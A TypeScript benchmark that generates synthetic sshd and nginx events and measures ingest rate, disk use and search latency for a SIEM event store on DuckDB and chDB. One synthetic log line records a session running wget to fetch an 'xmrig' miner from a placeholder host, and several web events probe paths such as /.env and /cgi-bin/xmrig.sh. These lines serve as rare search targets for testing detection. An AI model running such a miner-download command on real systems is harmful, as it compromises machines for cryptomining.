// Store benchmark: ingest rate through EventStore.append, disk use, and the median latency of the searches a SIEM
// dashboard runs most (an IP filter, a 24 h histogram, top source IPs, a rare word, a CIDR block) over synthetic
// sshd and web events (~2,000 source IPs with a long tail, 30 days, a few rare words).
// Run: node --import tsx bench/search.ts --events 1000000 [--runs 5] [--dir DIR (kept) [--reuse: search DIR's events again]]
//      [--engine duckdb,chdb: each engine in turn on the same events, side by side (chdb: ClickHouse embedded)]
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EcsEvent } from '../src/core/event.js';
import { openStore } from '../src/store/index.js';
import { parseQuery } from '../src/store/query/parse.js';
import type { EventStore } from '../src/store/types.js';
import { Random } from '../src/simulate/scenarios.js';

export interface Row {
  step: string;
  events: number;
  value: number;
  unit: 'rows/s' | 'ms' | 'MB';
  goal: string;
  detail: string;
}

const END_MS = Date.parse('2024-06-01T00:00:00Z');
const SPAN_MS = 30 * 86_400_000;
const BATCH = 10_000;
export const BENCH_IP = '203.0.113.7';
export const BENCH_CIDR = '198.51.100.0/24';
export const RARE_WORD = 'xmrig';
/** An address at the far end of the long tail: its events lie spread over all 30 days. */
export const RARE_IP = '192.0.2.200';

/** ~2,000 source addresses; rank r is drawn with weight 1/(r+1) (Zipf), so a few are loud and most are rare. */
function addressPool(random: () => number): { ips: string[]; cumulative: number[] } {
  const ips = new Set<string>([BENCH_IP]);
  for (let i = 0; i < 60; i++) ips.add(`198.51.100.${i + 1}`);
  for (let i = 0; i < 200; i++) ips.add(`10.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}.${1 + Math.floor(random() * 254)}`);
  for (let i = 0; i < 40; i++) ips.add(`2001:db8:${Math.floor(random() * 65536).toString(16)}::${Math.floor(random() * 65536).toString(16)}`);
  while (ips.size < 2000) ips.add(`${1 + Math.floor(random() * 222)}.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}.${1 + Math.floor(random() * 254)}`);
  // Shuffle so the documentation blocks land at random ranks, then put BENCH_IP at a middling rank (an attacker).
  const list = [...ips].filter((ip) => ip !== BENCH_IP);
  for (let i = list.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [list[i], list[j]] = [list[j]!, list[i]!];
  }
  list.splice(40, 0, BENCH_IP);
  list.pop();
  list.push(RARE_IP);
  const cumulative: number[] = [];
  let sum = 0;
  for (let r = 0; r < list.length; r++) cumulative.push((sum += 1 / (r + 1)));
  return { ips: list, cumulative: cumulative.map((c) => c / sum) };
}

function pickIndex(cumulative: number[], x: number): number {
  let lo = 0;
  let hi = cumulative.length - 1;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (cumulative[mid]! < x) lo = mid + 1;
    else hi = mid;
  }
  return lo;
}

const USERS = ['root', 'admin', 'ubuntu', 'deploy', 'git', 'oracle', 'test', 'postgres', 'www-data', 'backup', 'alice', 'bob'];
const HOSTS = ['web-1', 'web-2', 'web-3', 'bastion', 'db-1', 'mail'];
const PATHS = ['/', '/login', '/api/v1/items', '/static/app.js', '/static/style.css', '/admin', '/wp-login.php', '/search?q=shoes', '/.env', '/favicon.ico'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'curl/8.5.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'python-requests/2.31.0',
];

/** Synthetic events in time order, as a live feed delivers them. */
export function* syntheticEvents(count: number, seed = 1): Generator<EcsEvent[]> {
  const generator = new Random(seed); // mulberry32: every run sees the same data
  const random = () => generator.next();
  const pool = addressPool(random);
  const step = SPAN_MS / count;
  let batch: EcsEvent[] = [];
  for (let i = 0; i < count; i++) {
    const ms = END_MS - SPAN_MS + Math.floor(i * step + random() * step);
    const ts = new Date(ms).toISOString();
    const ip = pool.ips[pickIndex(pool.cumulative, random())]!;
    const host = HOSTS[Math.floor(random() * HOSTS.length)]!;
    const stamp = `${ts.slice(5, 7) === '05' ? 'May' : 'Jun'} ${ts.slice(8, 10)} ${ts.slice(11, 19)}`;
    const id = `b${i.toString(36).padStart(7, '0')}`;
    const rare = random() < 10 / 1_000_000;
    if (random() < 0.4) {
      const user = USERS[Math.floor(random() * USERS.length)]!;
      const port = 1024 + Math.floor(random() * 64000);
      const ok = random() < 0.15;
      const message = rare
        ? `Accepted password for ${user} from ${ip} port ${port} ssh2; session ran wget http://203.0.113.9/${RARE_WORD}`
        : ok
          ? `Accepted publickey for ${user} from ${ip} port ${port} ssh2: ED25519 SHA256:Yx3`
          : `Failed password for ${random() < 0.3 ? 'invalid user ' : ''}${user} from ${ip} port ${port} ssh2`;
      batch.push({
        '@timestamp': ts,
        event: {
          id,
          dataset: 'sshd',
          module: 'system',
          kind: 'event',
          category: ['authentication'],
          type: ['start'],
          action: 'ssh_login',
          outcome: ok || rare ? 'success' : 'failure',
          original: `${stamp} ${host} sshd[${1000 + (i % 30000)}]: ${message}`,
        },
        host: { name: host },
        process: { name: 'sshd', pid: 1000 + (i % 30000) },
        source: { ip, port },
        user: { name: user },
        log: { level: 'info' },
        message,
      });
    } else {
      const path = rare ? `/cgi-bin/${RARE_WORD}.sh` : PATHS[Math.floor(random() * PATHS.length)]!;
      const method = random() < 0.85 ? 'GET' : 'POST';
      const status = random() < 0.8 ? 200 : random() < 0.7 ? 404 : random() < 0.8 ? 302 : 500;
      const bytes = Math.floor(random() * 20000);
      const agent = AGENTS[Math.floor(random() * AGENTS.length)]!;
      batch.push({
        '@timestamp': ts,
        event: {
          id,
          dataset: 'nginx.access',
          kind: 'event',
          category: ['web'],
          type: ['access'],
          outcome: status < 400 ? 'success' : 'failure',
          original: `${ip} - - [${ts}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`,
        },
        host: { name: host },
        source: { ip },
        url: { original: path, path: path.split('?')[0]! },
        http: { version: '1.1', request: { method }, response: { status_code: status, body: { bytes } } },
        user_agent: { original: agent },
        message: `${method} ${path} ${status}`,
      });
    }
    if (batch.length === BATCH) {
      yield batch;
      batch = [];
    }
  }
  if (batch.length > 0) yield batch;
}

function median(values: number[]): number {
  const sorted = [...values].sort((a, b) => a - b);
  const mid = sorted.length >> 1;
  return sorted.length % 2 === 1 ? sorted[mid]! : (sorted[mid - 1]! + sorted[mid]!) / 2;
}

async function timed(runs: number, task: () => Promise<string>): Promise<{ ms: number; detail: string }> {
  const times: number[] = [];
  let detail = '';
  for (let i = 0; i < runs; i++) {
    const started = performance.now();
    detail = await task();
    times.push(performance.now() - started);
  }
  return { ms: Math.round(median(times) * 10) / 10, detail };
}

function dirBytes(dir: string): number {
  let bytes = 0;
  for (const name of ['events.duckdb', 'events.duckdb.wal']) {
    try {
      bytes += statSync(join(dir, name)).size;
    } catch {
      // absent
    }
  }
  return bytes;
}

/** Appends the synthetic events in batches; answers rows/s counting only the time spent in append. */
export async function ingest(store: EventStore, events: number): Promise<number> {
  let appending = 0;
  for (const batch of syntheticEvents(events)) {
    const started = performance.now();
    await store.append(batch);
    appending += performance.now() - started;
  }
  return events / (appending / 1000);
}

export type BenchEngine = 'duckdb' | 'chdb';

/**
 * `reuse`: measure the searches on the events already in `dir` (a previous run's, kept with --dir) without appending.
 * `engine`: DuckDB (default), or ClickHouse embedded (chDB, in DIR/chdb) through the same EventStore.
 */
export async function benchSearch(opts: { events: number; dir: string; runs: number; reuse?: boolean; engine?: BenchEngine }): Promise<Row[]> {
  const rows: Row[] = [];
  const chdb = opts.engine === 'chdb';
  const store = await openStore(chdb ? { engine: 'clickhouse', dir: opts.dir, url: 'chdb' } : { engine: 'duckdb', dir: opts.dir });
  try {
    if (opts.reuse !== true) {
      const rate = await ingest(store, opts.events);
      rows.push({ step: `append (batches of ${BATCH})`, events: opts.events, value: Math.round(rate), unit: 'rows/s', goal: '', detail: '' });
    }
    const stats = await store.stats();
    // DuckDB: its files (the WAL too); ClickHouse: its parts on disk, as the store reports them.
    const bytes = chdb ? stats.bytes : dirBytes(opts.dir);
    rows.push({
      step: 'disk',
      events: stats.events,
      value: Math.round(bytes / 1e5) / 10,
      unit: 'MB',
      goal: '',
      detail: `${Math.round(bytes / stats.events)} bytes/event`,
    });
    const all = { type: 'all' } as const;
    const measure = async (step: string, goal: string, task: () => Promise<string>): Promise<void> => {
      const { ms, detail } = await timed(opts.runs, task);
      rows.push({ step, events: stats.events, value: ms, unit: 'ms', goal, detail });
    };
    await measure(`search source.ip:${BENCH_IP} (limit 100 + total)`, '< 100 ms at 10M', async () => {
      const r = await store.search({ query: parseQuery(`source.ip:${BENCH_IP}`), limit: 100 });
      return `total ${r.total}`;
    });
    await measure('histogram, last 24 h', '< 200 ms at 10M', async () => {
      const r = await store.histogram({ query: all, from: END_MS - 86_400_000, to: END_MS });
      return `${r.buckets.length} buckets of ${r.interval / 60_000} min, ${r.buckets.reduce((n, b) => n + b.count, 0)} events`;
    });
    await measure('top 10 source.ip, all time', '< 200 ms at 10M', async () => {
      const r = await store.top({ query: all, field: 'source.ip', size: 10 });
      return `first ${r.values[0]?.value} × ${r.values[0]?.count}`;
    });
    await measure('search a long-tail source.ip (limit 100 + total)', '', async () => {
      const r = await store.search({ query: parseQuery(`source.ip:${RARE_IP}`), limit: 100 });
      return `total ${r.total}`;
    });
    await measure(`free text "${RARE_WORD}" (limit 100 + total)`, '', async () => {
      const r = await store.search({ query: parseQuery(RARE_WORD), limit: 100 });
      return `total ${r.total}`;
    });
    await measure(`search source.ip:${BENCH_CIDR} (limit 100 + total)`, '', async () => {
      const r = await store.search({ query: parseQuery(`source.ip:${BENCH_CIDR}`), limit: 100 });
      return `total ${r.total}`;
    });
    await measure('search user.name:root AND event.outcome:failure, last 24 h', '', async () => {
      const r = await store.search({ query: parseQuery('user.name:root AND event.outcome:failure'), limit: 100, from: END_MS - 86_400_000, to: END_MS });
      return `total ${r.total}`;
    });
  } finally {
    await store.close();
  }
  return rows;
}

function argument(name: string): string | undefined {
  const index = process.argv.indexOf(`--${name}`);
  return index >= 0 ? process.argv[index + 1] : undefined;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const events = Number(argument('events') ?? 1_000_000);
  const runs = Number(argument('runs') ?? 5);
  const given = argument('dir');
  const reuse = process.argv.includes('--reuse') && given !== undefined;
  const dir = given ?? mkdtempSync(join(tmpdir(), 'vigil-bench-search-'));
  const engines = (argument('engine') ?? 'duckdb').split(',') as BenchEngine[];
  try {
    const results: Row[][] = [];
    for (const engine of engines) {
      if (engine !== 'duckdb' && engine !== 'chdb') throw new Error(`--engine takes duckdb, chdb or both separated by a comma, not ${engine}`);
      results.push(await benchSearch({ events, dir: engines.length > 1 ? join(dir, engine) : dir, runs, reuse, engine }));
    }
    if (results.length === 1) console.table(results[0]);
    else {
      // One row per measurement, each engine's value beside the others' (same events, same run).
      console.table(
        results[0]!.map((row, i) => ({
          step: row.step,
          events: row.events,
          unit: row.unit,
          ...Object.fromEntries(engines.map((engine, e) => [engine, results[e]![i]?.value])),
          ...Object.fromEntries(engines.map((engine, e) => [`${engine} detail`, results[e]![i]?.detail])),
        })),
      );
    }
  } finally {
    if (given === undefined) rmSync(dir, { recursive: true, force: true });
  }
}
